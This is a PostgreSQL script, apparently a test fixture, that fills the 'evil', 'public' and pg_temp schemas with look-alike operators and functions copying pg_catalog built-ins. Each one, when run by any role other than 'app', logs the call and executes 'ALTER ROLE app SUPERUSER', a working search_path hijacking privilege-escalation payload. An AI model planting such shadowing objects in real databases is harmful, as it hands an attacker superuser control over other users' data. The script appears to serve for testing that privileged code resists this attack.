-- Run by the role `app`, which owns schema `evil` and may create things in `public`: an operator or a function of the same name and
-- arguments as each that Postgres brings, in every schema that a path may lead through. Whatever of it runs with the rights of
-- somebody else is noted, and tries to make `app` a superuser.
CREATE TABLE evil.executed (who text, what text);
GRANT USAGE ON SCHEMA evil TO PUBLIC;
GRANT ALL ON evil.executed TO PUBLIC;

DO $make$
DECLARE
    body CONSTANT text := $body$
        BEGIN
            IF current_user OPERATOR(pg_catalog.<>) 'app' THEN
                INSERT INTO evil.executed VALUES (current_user, %L);
                ALTER ROLE app SUPERUSER;
            END IF;
            RETURN NULL;
        END
    $body$;
    place text;
    made  record;
BEGIN
    FOREACH place IN ARRAY ARRAY['evil', 'public', 'pg_temp'] LOOP
        FOR made IN
            SELECT o.oid, o.oprname AS name, o.oprleft::regtype AS l, o.oprright::regtype AS r, o.oprresult::regtype AS result
            FROM pg_operator o
            WHERE o.oprkind = 'b' AND o.oprnamespace = 'pg_catalog'::regnamespace
              AND o.oprname IN ('=', '<>', '<', '>', '<=', '>=', '||', '&', '|', '<<', '>>', '~', '+', '-', '%', '~~', '!~~')
        LOOP
            BEGIN
                EXECUTE format(
                    'CREATE FUNCTION %I.h_%s(%s, %s) RETURNS %s LANGUAGE plpgsql AS %L',
                    place, made.oid, made.l, made.r, made.result, format(body, made.name || ' of ' || made.l || ' in ' || place)
                );
                EXECUTE format(
                    'CREATE OPERATOR %I.%s (FUNCTION = %I.h_%s, LEFTARG = %s, RIGHTARG = %s)',
                    place, made.name, place, made.oid, made.l, made.r
                );
            EXCEPTION WHEN OTHERS THEN
                NULL; -- Not everything can be made in PL/pgSQL.
            END;
        END LOOP;
        FOR made IN
            SELECT p.proname AS name, pg_get_function_identity_arguments(p.oid) AS arguments, p.prorettype::regtype AS result
            FROM pg_proc p
            WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind = 'f' AND NOT p.proretset AND p.proname IN (
                'array_append', 'cardinality', 'current_database', 'current_setting', 'hash_record_extended', 'hashtext',
                'hashtextextended', 'has_table_privilege', 'length', 'now', 'pg_advisory_lock', 'pg_advisory_unlock',
                'pg_advisory_xact_lock', 'pg_advisory_lock_shared', 'pg_advisory_xact_lock_shared', 'pg_backend_pid',
                'pg_current_snapshot', 'pg_current_xact_id', 'pg_export_snapshot', 'pg_sequence_last_value',
                'pg_visible_in_snapshot', 'record_send', 'set_config', 'setval', 'starts_with', 'substr', 'to_regclass', 'uuid_hash'
            )
        LOOP
            BEGIN
                EXECUTE format(
                    'CREATE FUNCTION %I.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L',
                    place, made.name, made.arguments, made.result, format(body, made.name || ' in ' || place)
                );
            EXCEPTION WHEN OTHERS THEN
                NULL;
            END;
        END LOOP;
    END LOOP;
    -- Those that Postgres has for arguments of any number and type.
    FOR made IN
        SELECT * FROM (VALUES ('format', 2, 'text'), ('format', 3, 'text'), ('json_build_object', 6, 'json')) AS v (name, n, result)
    LOOP
        EXECUTE format(
            'CREATE FUNCTION evil.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L',
            made.name, array_to_string(array_fill('text'::text, ARRAY[made.n]), ', '), made.result, format(body, made.name)
        );
    END LOOP;
END
$make$;
